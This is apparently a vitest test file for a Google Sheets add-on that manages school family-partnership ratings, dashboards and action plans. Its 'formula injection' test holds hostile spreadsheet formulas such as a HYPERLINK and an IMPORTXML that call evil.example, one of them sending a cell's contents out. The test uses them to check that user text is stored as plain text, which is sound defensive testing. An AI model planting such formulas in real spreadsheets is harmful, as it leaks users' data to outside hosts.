import { describe, expect, it } from 'vitest';
import { builtInFramework, ratedNodes } from '../../../shared/frameworks';
import { installAddOn } from './fake/load-code';
import { MUTATING } from './fake/recorder';
import { gridOf, sheetByName } from './fake/spreadsheet-model';
import {
  JOHN,
  MARIA,
  setupRequest,
  TWO,
  team,
  tickForActionPlan,
  typeInto,
  valueAt,
} from './fake/team';

const INDICATORS = ratedNodes(builtInFramework('pta-2022')).length;

type Result = {
  ok: boolean;
  value?: { ok: boolean; summary?: string; problems?: Array<{ field: string; message: string }> };
  message?: string;
};

function setUp(members = TWO, extra: Record<string, unknown> = {}) {
  const addOn = installAddOn();
  const result = addOn.plain(addOn.call('saveSetup', setupRequest(members, extra)) as Result);
  return { addOn, result };
}

describe('the menu', () => {
  it('is built in AuthMode.NONE, touching nothing but the menu', () => {
    const addOn = installAddOn({ authMode: 'NONE' });
    addOn.call('onOpen', { authMode: 'NONE' });
    expect(addOn.plain(addOn.ui.menus)).toEqual([
      {
        items: [
          { label: 'Set up assessment…', functionName: 'showSetup' },
          { label: 'Add rater…', functionName: 'showAddRater' },
          { label: 'Refresh dashboard', functionName: 'refreshDashboard' },
          { label: 'Compare with family survey', functionName: 'showFamilySurvey' },
          { label: 'Start new school year', functionName: 'startNewSchoolYear' },
          'separator',
          { label: 'Help', functionName: 'showHelp' },
        ],
      },
    ]);
    const touched = new Set(addOn.recorder.calls.map((c) => c.target));
    expect([...touched].sort()).toEqual(['Menu', 'SpreadsheetApp', 'Ui']);
  });

  it('onInstall builds the same menu', () => {
    const addOn = installAddOn();
    addOn.call('onInstall', { authMode: 'FULL' });
    expect(addOn.ui.menus).toHaveLength(1);
    expect(addOn.ui.menus[0]?.items).toHaveLength(7);
  });

  it('names only functions that Code.js declares', () => {
    const addOn = installAddOn({ authMode: 'NONE' });
    addOn.call('onOpen');
    const names = (addOn.ui.menus[0]?.items ?? []).flatMap((item) =>
      item === 'separator' ? [] : [item.functionName],
    );
    expect(names).toHaveLength(6);
    for (const name of names) expect(addOn.has(name), name).toBe(true);
  });

  it('opens the sidebar on the view each item asks for', () => {
    const { addOn } = setUp();
    addOn.call('showAddRater');
    addOn.call('showFamilySurvey');
    addOn.call('showSetup');
    expect(
      addOn.ui.sidebars.map((s) => [s.title, /data-view="([a-z-]+)"/.exec(s.html)?.[1]]),
    ).toEqual([
      ['Add rater', 'add-rater'],
      ['Compare with family survey', 'survey'],
      ['Set up assessment', 'setup'],
    ]);
  });
});

describe('setting up', () => {
  it('writes every rating sheet, the Ratings table and the dashboard', () => {
    const { addOn, result } = setUp();
    expect(result).toMatchObject({ ok: true, value: { ok: true } });
    const names = addOn.workbook.sheets.map((s) => s.name);
    // New tabs in working order; the spreadsheet's own first sheet is left where it falls.
    expect(names).toEqual([
      'Dashboard',
      'Priorities',
      'Action plan',
      'Ratings',
      MARIA,
      JOHN,
      'Sheet1',
      'Family survey',
      'Evidence log',
      'Pivot tables',
      'Lists',
    ]);
    expect(names).toEqual(
      expect.arrayContaining([
        MARIA,
        JOHN,
        'Ratings',
        'Dashboard',
        'Priorities',
        'Action plan',
        'Pivot tables',
        'Family survey',
        'Evidence log',
      ]),
    );
    const maria = gridOf(sheetByName(addOn.workbook, MARIA)!);
    expect(maria[3]?.slice(0, 5)).toEqual(['Standard', 'Goal', 'Id', 'Indicator', 'Rating']);
    expect(maria.slice(4).map((r) => r[2])).toEqual(
      ratedNodes(builtInFramework('pta-2022')).map((n) => n.id),
    );
    // Ids stay text ("1.1.1" would be fine, but PTA 2008's "1" must not become the number 1).
    expect(typeof valueAt(addOn.workbook, MARIA, 5, 3)).toBe('string');
    const ratings = gridOf(sheetByName(addOn.workbook, 'Ratings')!);
    expect(ratings).toHaveLength(1 + 2 * INDICATORS);
    expect(String(ratings[1]?.[7])).toMatch(/^=IF\(TRIM\(O2\)=""/);
    const dashboard = gridOf(sheetByName(addOn.workbook, 'Dashboard')!);
    expect(dashboard.flat().some((v) => typeof v === 'string' && v.startsWith('=COUNTIFS('))).toBe(
      true,
    );
    const pivots = sheetByName(addOn.workbook, 'Pivot tables')!.pivots;
    expect(pivots).toHaveLength(2);
    expect(
      sheetByName(addOn.workbook, 'Dashboard')!.charts.map(
        (c) => `${c.kind}${c.stacked ? ' stacked' : ''}`,
      ),
    ).toEqual(['bar', 'bar stacked', 'column']);
  });

  it('finds each sheet by developer metadata, not by name', () => {
    const { addOn } = setUp();
    const maria = sheetByName(addOn.workbook, MARIA)!;
    const metadata = addOn.workbook.metadata.filter((m) => m.sheetId === maria.id);
    expect(metadata).toEqual([
      expect.objectContaining({
        key: 'fsp.sheet',
        value: JSON.stringify({ kind: 'rating-sheet', key: 'r1' }),
        visibility: 'DOCUMENT',
      }),
    ]);
  });

  it('makes every write while holding the document lock', () => {
    const { addOn } = setUp();
    const writes = addOn.recorder.calls.filter((c) => MUTATING.has(c.method));
    expect(writes.length).toBeGreaterThan(50);
    expect(writes.filter((c) => !c.locked)).toEqual([]);
    expect(addOn.recorder.count('releaseLock')).toBe(addOn.recorder.count('tryLock'));
  });

  it('writes in batches: the number of calls per sheet does not grow with the team', () => {
    const perSheet = (n: number) => {
      const { addOn } = setUp(team(n));
      const counts: Record<string, number> = {};
      for (const c of addOn.recorder.calls) {
        if (
          c.sheet === undefined ||
          !['setValues', 'setDataValidations', 'setConditionalFormatRules', 'setNotes'].includes(
            c.method,
          )
        )
          continue;
        const kind = c.sheet.startsWith('Rater ') ? 'a rating sheet' : c.sheet;
        counts[`${kind} ${c.method}`] = (counts[`${kind} ${c.method}`] ?? 0) + 1;
      }
      return { counts, addOn };
    };
    const small = perSheet(2);
    const large = perSheet(12);
    const normalise = (counts: Record<string, number>, raters: number) =>
      Object.fromEntries(
        Object.entries(counts).map(([k, v]) => [
          k,
          k.startsWith('a rating sheet') ? v / raters : v,
        ]),
      );
    expect(normalise(large.counts, 12)).toEqual(normalise(small.counts, 2));
    // One setDataValidations and one setConditionalFormatRules per rating sheet.
    expect(small.counts['a rating sheet setDataValidations']).toBe(2);
    expect(small.counts['a rating sheet setConditionalFormatRules']).toBe(2);
    // No call writes a single cell of the rating table: the rows go in one setValues.
    const ratingWrites = large.addOn.recorder.calls.filter(
      (c) => c.method === 'setValues' && c.sheet?.startsWith('Rater '),
    );
    expect(ratingWrites.some((c) => (c.args[0] as unknown[][]).length === INDICATORS)).toBe(true);
  });

  it('reports problems with the form, field by field, and writes nothing', () => {
    const addOn = installAddOn();
    const result = addOn.plain(
      addOn.call(
        'saveSetup',
        setupRequest(
          [
            { name: 'Ana', role: 'family' },
            { name: 'ana', role: 'astronaut' },
            { name: '', role: 'teacher' },
          ],
          { schoolName: '  ' },
        ),
      ) as Result,
    );
    expect(result.ok).toBe(true);
    expect(result.value?.ok).toBe(false);
    expect(result.value?.problems?.map((p) => p.field)).toEqual([
      'schoolName',
      'members[1].name',
      'members[1].role',
      'members[2].name',
    ]);
    expect(result.value?.problems?.[2]?.message).toMatch(/"astronaut" is not a role/);
    expect(addOn.workbook.sheets.map((s) => s.name)).toEqual(['Sheet1']);
  });
});

describe('formula injection', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(1)'];

  it('names and school text beginning with = + - @ are written as plain text', () => {
    const { addOn, result } = setUp(
      hostile.map((name, i) => ({ name, role: i % 2 ? 'teacher' : 'family' })),
      { schoolName: '=IMPORTXML("http://evil.example","//a")' },
    );
    expect(result.value?.ok).toBe(true);
    const formulas: string[] = [];
    const texts: string[] = [];
    for (const sheet of addOn.workbook.sheets) {
      for (const cell of sheet.cells.values()) {
        if (cell.formula) formulas.push(cell.formula);
        else if (typeof cell.value === 'string') texts.push(cell.value);
      }
    }
    for (const name of hostile) expect(texts).toContain(name);
    expect(texts.some((t) => t.includes('=IMPORTXML('))).toBe(true);
    // No formula carries what someone typed, except inside a quoted sheet reference ('name'!A1),
    // where it is only a name.
    const outsideSheetNames = formulas.map((f) => f.replace(/'(?:[^']|'')*'!/g, "'sheet'!"));
    expect(
      outsideSheetNames.filter((f) => /HYPERLINK|IMPORTXML|SUM\(1\)|\+1\+1|-2\+3/.test(f)),
    ).toEqual([]);
    // Without the add-on's apostrophe, Sheets would have made these formulas: the fake does, too.
    const probe = installAddOn();
    probe.call('saveSetup', setupRequest([{ name: 'x', role: 'family' }]));
    expect(
      addOn.recorder.calls
        .filter((c) => c.method === 'setValues')
        .flatMap((c) => (c.args[0] as unknown[][]).flat())
        .filter((v) => typeof v === 'string' && hostile.includes(v)),
    ).toEqual([]);
  });
});

describe('re-running setup', () => {
  it('keeps every rating and note entered, writing nothing below the headers of unchanged sheets', () => {
    const { addOn } = setUp();
    const levels = ['Excelling', 'progressing', 'Emerging', 'Below', 'Not sure', 'Progresing'];
    for (let i = 0; i < INDICATORS; i++) {
      typeInto(addOn.workbook, MARIA, 5 + i, 5, levels[i % levels.length] ?? '');
      typeInto(addOn.workbook, MARIA, 5 + i, 6, `=not a formula ${i}`);
      typeInto(addOn.workbook, JOHN, 5 + i, 5, (i % 4) as number);
    }
    const before = [
      gridOf(sheetByName(addOn.workbook, MARIA)!),
      gridOf(sheetByName(addOn.workbook, JOHN)!),
    ];
    addOn.recorder.reset();
    const state = addOn.plain(
      addOn.call('getSidebarState', 'setup') as {
        ok: true;
        value: { current: { members: Array<{ id: string; name: string; role: string }> } };
      },
    );
    const result = addOn.plain(
      addOn.call('saveSetup', setupRequest(state.value.current.members)) as Result,
    );
    expect(result.value?.ok).toBe(true);
    const after = [
      gridOf(sheetByName(addOn.workbook, MARIA)!),
      gridOf(sheetByName(addOn.workbook, JOHN)!),
    ];
    expect(after).toEqual(before);
    const dataWrites = addOn.recorder.calls.filter(
      (c) =>
        c.method === 'setValues' &&
        (c.sheet === MARIA || c.sheet === JOHN) &&
        (c.args[0] as unknown[][]).length > 1,
    );
    expect(dataWrites).toEqual([]);
  });

  it('finds a rating sheet after it is renamed and moved, and keeps its ratings', () => {
    const { addOn } = setUp();
    typeInto(addOn.workbook, MARIA, 5, 5, 'Excelling');
    typeInto(addOn.workbook, MARIA, 5, 6, 'Our welcome night');
    const sheet = sheetByName(addOn.workbook, MARIA)!;
    sheet.name = 'Maria — my ratings';
    addOn.workbook.sheets.splice(addOn.workbook.sheets.indexOf(sheet), 1);
    addOn.workbook.sheets.push(sheet);
    const count = addOn.workbook.sheets.length;
    addOn.call(
      'saveSetup',
      setupRequest([
        { id: 'r1', name: 'Maria Lopez', role: 'family' },
        { id: 'r2', name: 'John Smith', role: 'teacher' },
      ]),
    );
    expect(addOn.workbook.sheets).toHaveLength(count);
    expect(valueAt(addOn.workbook, 'Maria — my ratings', 5, 5)).toBe('Excelling');
    expect(valueAt(addOn.workbook, 'Maria — my ratings', 5, 6)).toBe('Our welcome night');
    // The Ratings table now points at the sheet's new name.
    expect(String(valueAt(addOn.workbook, 'Ratings', 2, 13))).toContain("'Maria — my ratings'!");
  });

  it('adding a rater keeps the other ratings', () => {
    const { addOn } = setUp();
    typeInto(addOn.workbook, JOHN, 9, 5, 'Below');
    const result = addOn.plain(
      addOn.call('addRater', { name: 'Ana Ruiz', role: 'principal' }) as Result,
    );
    expect(result.value?.ok).toBe(true);
    expect(sheetByName(addOn.workbook, 'Ana Ruiz (admin)')).toBeDefined();
    expect(valueAt(addOn.workbook, JOHN, 9, 5)).toBe('Below');
    const bad = addOn.plain(addOn.call('addRater', { name: 'ana ruiz', role: 'family' }) as Result);
    expect(bad.value?.problems).toEqual([
      { field: 'name', message: expect.stringMatching(/also called/) },
    ]);
  });
});

describe('refreshing the dashboard', () => {
  it('lists every value it cannot count, with sheet, row and column, in a dialog and on the dashboard', () => {
    const { addOn } = setUp();
    typeInto(addOn.workbook, MARIA, 5, 5, 'Progresing');
    typeInto(addOn.workbook, MARIA, 6, 5, 'Excelling');
    typeInto(addOn.workbook, JOHN, 7, 5, 2.5);
    addOn.call('refreshDashboard');
    expect(addOn.ui.dialogs).toHaveLength(1);
    const dialog = addOn.ui.dialogs[0]!;
    expect(dialog.title).toBe('2 values could not be counted');
    expect(dialog.html).toContain(
      'Sheet &#34;Maria Lopez (family)&#34;, row 5, column E: &#34;Progresing&#34; is not a rating',
    );
    expect(dialog.html).toContain('Did you mean Progressing?');
    expect(dialog.html).toContain(
      'Sheet &#34;John Smith (teacher)&#34;, row 7, column E: 2.5 is not a rating',
    );
    const dashboard = gridOf(sheetByName(addOn.workbook, 'Dashboard')!).flat().map(String);
    expect(
      dashboard.some((t) => t.startsWith('Sheet "Maria Lopez (family)", row 5, column E')),
    ).toBe(true);
    const priorities = gridOf(sheetByName(addOn.workbook, 'Priorities')!);
    expect(priorities.some((row) => row[1] === '1.1.2')).toBe(true);
  });

  it('without problems, says how many ratings it counted', () => {
    const { addOn } = setUp();
    typeInto(addOn.workbook, MARIA, 5, 5, 'Excelling');
    typeInto(addOn.workbook, JOHN, 5, 5, 'Emerging');
    addOn.call('refreshDashboard');
    expect(addOn.ui.alerts.at(-1)?.message).toMatch(/^2 ratings from 2 raters counted\./);
  });

  it('adds the indicators ticked on Priorities to the Action plan, once, with suggested action steps', () => {
    const { addOn } = setUp();
    typeInto(addOn.workbook, MARIA, 5, 5, 'Below');
    addOn.call('refreshDashboard');
    tickForActionPlan(addOn.workbook, '1.1.1');
    addOn.call('refreshDashboard');
    addOn.call('refreshDashboard');
    const plan = gridOf(sheetByName(addOn.workbook, 'Action plan')!)
      .slice(4)
      .filter((r) => r.some((c) => c !== ''));
    expect(plan).toHaveLength(1);
    expect(plan[0]?.[1]).toBe('1.1.1 Learn about families and foster respectful attitudes');
    expect(String(plan[0]?.[2])).toMatch(
      /^Suggested \(edit freely\):\n• Communicate school-wide goals/,
    );
    expect(plan[0]?.[8]).toBe('Not started');
    // The tick is still there after the rebuilds.
    expect(
      gridOf(sheetByName(addOn.workbook, 'Priorities')!).some(
        (r) => r[1] === '1.1.1' && r[12] === true,
      ),
    ).toBe(true);
  });

  it('asks for setup first, in plain words', () => {
    const addOn = installAddOn();
    addOn.call('refreshDashboard');
    expect(addOn.ui.alerts).toEqual([
      {
        title: 'Refresh dashboard',
        message: expect.stringMatching(
          /^This spreadsheet has no assessment yet\. Choose "Set up assessment…"/,
        ),
      },
    ]);
  });
});

describe('errors', () => {
  it('are plain sentences, never stack traces', () => {
    const { addOn } = setUp();
    addOn.workbook.properties.set('fsp.settings.0', '{ broken');
    addOn.call('refreshDashboard');
    const message = addOn.ui.alerts.at(-1)?.message ?? '';
    expect(message).toMatch(/saved setup of this spreadsheet is damaged/);
    expect(message).not.toMatch(/\n\s+at |\.js:\d+/);
    const sidebar = addOn.plain(addOn.call('getSidebarState', 'setup') as Result);
    expect(sidebar).toEqual({ ok: false, message: expect.stringMatching(/damaged/) });
  });

  it('an unexpected failure is reported without its stack, and the lock is released', () => {
    const { addOn } = setUp();
    addOn.recorder.failures.set(
      'Range.setValues',
      'Exception: Service Spreadsheets failed while accessing document with id 1abc.',
    );
    addOn.call('refreshDashboard');
    const message = addOn.ui.alerts.at(-1)?.message ?? '';
    expect(message).toBe(
      'The add-on stopped while writing sheet "Family survey" (Exception: Service Spreadsheets failed while accessing document with id 1abc.). Ratings already typed stay on the rating sheets. Try again; if it keeps happening, open "Set up assessment…" and save.',
    );
    expect(addOn.recorder.lockHeld).toBe(false);
  });
});

describe('a rater editing their sheet', () => {
  it('gets today’s date in their Updated column', () => {
    const { addOn } = setUp();
    typeInto(addOn.workbook, MARIA, 7, 5, 'Emerging');
    const sheet = addOn.workbook.sheets.find((s) => s.name === MARIA)!;
    const range = (addOn.globals.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp)
      .getActiveSpreadsheet()
      .getSheets()
      .find((s) => s.getSheetId() === sheet.id)!
      .getRange(7, 5, 1, 1);
    addOn.recorder.reset();
    addOn.call('onEdit', { range, value: 'Emerging', authMode: 'LIMITED' });
    const stamped = valueAt(addOn.workbook, MARIA, 7, 7);
    expect(Object.prototype.toString.call(stamped)).toBe('[object Date]');
    expect(addOn.recorder.calls.filter((c) => MUTATING.has(c.method)).every((c) => c.locked)).toBe(
      true,
    );
  });
});

describe('notes a rater put on their cells (Insert › Note)', () => {
  it('go with their indicator when setup puts a sorted rating sheet back in order', () => {
    const { addOn } = setUp();
    const maria = sheetByName(addOn.workbook, MARIA)!;
    typeInto(addOn.workbook, MARIA, 5, 5, 'Emerging');
    typeInto(addOn.workbook, MARIA, 6, 5, 'Excelling');
    // Notes on 1.1.1's Rating cell and on 1.1.2's Evidence cell, and one on a cell not rated yet.
    maria.cells.get('5:5')!.note = 'Asked the principal';
    maria.cells.get('6:6')!.note = 'See the October newsletter';
    maria.cells.get('9:5')!.note = 'Rate after the open house';
    // The team sorts Maria's rows in reverse, then someone saves setup.
    const rows = gridOf(maria).length;
    const before = new Map(maria.cells);
    maria.cells.clear();
    for (const [key, cell] of before) {
      const [r, c] = key.split(':').map(Number) as [number, number];
      maria.cells.set(`${r >= 5 ? rows + 5 - r : r}:${c}`, cell);
    }
    addOn.call(
      'saveSetup',
      setupRequest([
        { id: 'r1', ...TWO[0]! },
        { id: 'r2', ...TWO[1]! },
      ]),
    );
    // Back in framework order, each note on its own indicator's cell.
    expect(valueAt(addOn.workbook, MARIA, 5, 3)).toBe('1.1.1');
    expect(valueAt(addOn.workbook, MARIA, 5, 5)).toBe('Emerging');
    const noteAt = (row: number, column: number) => maria.cells.get(`${row}:${column}`)?.note;
    expect(noteAt(5, 5)).toBe('Asked the principal');
    expect(noteAt(6, 6)).toBe('See the October newsletter');
    expect(noteAt(9, 5)).toBe('Rate after the open house');
    expect(noteAt(10, 5)).toBeUndefined();
    // The guiding questions are still on the Goal column.
    expect(noteAt(5, 2)).toMatch(/^Guiding question: /);
  });
});

describe('a rating sheet someone deleted', () => {
  it('is made again, empty, and refresh and setup say so, naming it and how to get its ratings back', () => {
    const { addOn } = setUp();
    for (let i = 0; i < INDICATORS; i++) typeInto(addOn.workbook, JOHN, 5 + i, 5, 'Emerging');
    typeInto(addOn.workbook, MARIA, 5, 5, 'Below');
    const john = sheetByName(addOn.workbook, JOHN)!;
    addOn.workbook.sheets.splice(addOn.workbook.sheets.indexOf(john), 1);
    addOn.workbook.metadata = addOn.workbook.metadata.filter((m) => m.sheetId !== john.id);
    const told = new RegExp(
      `There was no rating sheet for John Smith \\(teacher\\), so an empty one was made: "${JOHN.replace(/[()]/g, '\\$&')}"\\. If it was deleted, Edit › Undo or File › Version history brings its ratings back\\.`,
    );
    addOn.call('refreshDashboard');
    expect(addOn.ui.alerts.at(-1)?.message).toMatch(/^1 rating from 1 rater counted\./);
    expect(addOn.ui.alerts.at(-1)?.message).toMatch(told);
    expect(sheetByName(addOn.workbook, JOHN)).toBeDefined();
    // Once it is there again, nothing more is said.
    addOn.call('refreshDashboard');
    expect(addOn.ui.alerts.at(-1)?.message).not.toMatch(/There was no rating sheet/);
    // Setup says it too, for a member who had a sheet; a new member's sheet is simply made.
    const again = sheetByName(addOn.workbook, JOHN)!;
    addOn.workbook.sheets.splice(addOn.workbook.sheets.indexOf(again), 1);
    addOn.workbook.metadata = addOn.workbook.metadata.filter((m) => m.sheetId !== again.id);
    const result = addOn.plain(
      addOn.call(
        'saveSetup',
        setupRequest([
          { id: 'r1', ...TWO[0]! },
          { id: 'r2', ...TWO[1]! },
          { name: 'Ana Ruiz', role: 'administrator' },
        ]),
      ) as Result & { value: { notices: string[] } },
    );
    expect(result.value.notices).toEqual([expect.stringMatching(told)]);
  });
});

describe('a sheet the team types in, deleted', () => {
  it('is made again, empty, and refresh says which one and how to get its rows back', () => {
    const { addOn } = setUp();
    typeInto(addOn.workbook, 'Evidence log', 5, 1, '1.1.1');
    typeInto(addOn.workbook, 'Evidence log', 5, 5, 'Flyer in 3 languages');
    for (const name of ['Evidence log', 'Action plan', 'Family survey']) {
      const sheet = sheetByName(addOn.workbook, name)!;
      addOn.workbook.sheets.splice(addOn.workbook.sheets.indexOf(sheet), 1);
      addOn.workbook.metadata = addOn.workbook.metadata.filter((m) => m.sheetId !== sheet.id);
    }
    addOn.call('refreshDashboard');
    const message = addOn.ui.alerts.at(-1)?.message ?? '';
    for (const name of ['Action plan', 'Family survey', 'Evidence log'])
      expect(message).toContain(
        `There was no ${name} sheet, so an empty one was made: "${name}". If it was deleted, Edit › Undo or File › Version history brings its rows back.`,
      );
    expect(sheetByName(addOn.workbook, 'Evidence log')).toBeDefined();
    addOn.call('refreshDashboard');
    expect(addOn.ui.alerts.at(-1)?.message).not.toMatch(/There was no/);
  });
});

describe('changing the school year in setup', () => {
  it('says the ratings entered now count for the new year, and how to start a new year instead', () => {
    const { addOn } = setUp();
    typeInto(addOn.workbook, MARIA, 5, 5, 'Below');
    const members = [
      { id: 'r1', ...TWO[0]! },
      { id: 'r2', ...TWO[1]! },
    ];
    const told =
      'The school year is now 2026-27, and the ratings already entered count for it. If 2025-26 has ended, change the year back to 2025-26 here, save, and choose "Start new school year" from the add-on menu: it archives 2025-26’s ratings first and gives 2026-27 empty rating sheets.';
    const changed = addOn.plain(
      addOn.call('saveSetup', setupRequest(members, { schoolYear: '2026-27' })) as Result & {
        value: { notices: string[] };
      },
    );
    expect(changed.value.notices).toEqual([told]);
    // Saving again with the same year says nothing more.
    const again = addOn.plain(
      addOn.call('saveSetup', setupRequest(members, { schoolYear: '2026-27' })) as Result & {
        value: { notices: string[] };
      },
    );
    expect(again.value.notices).toEqual([]);
  });
});
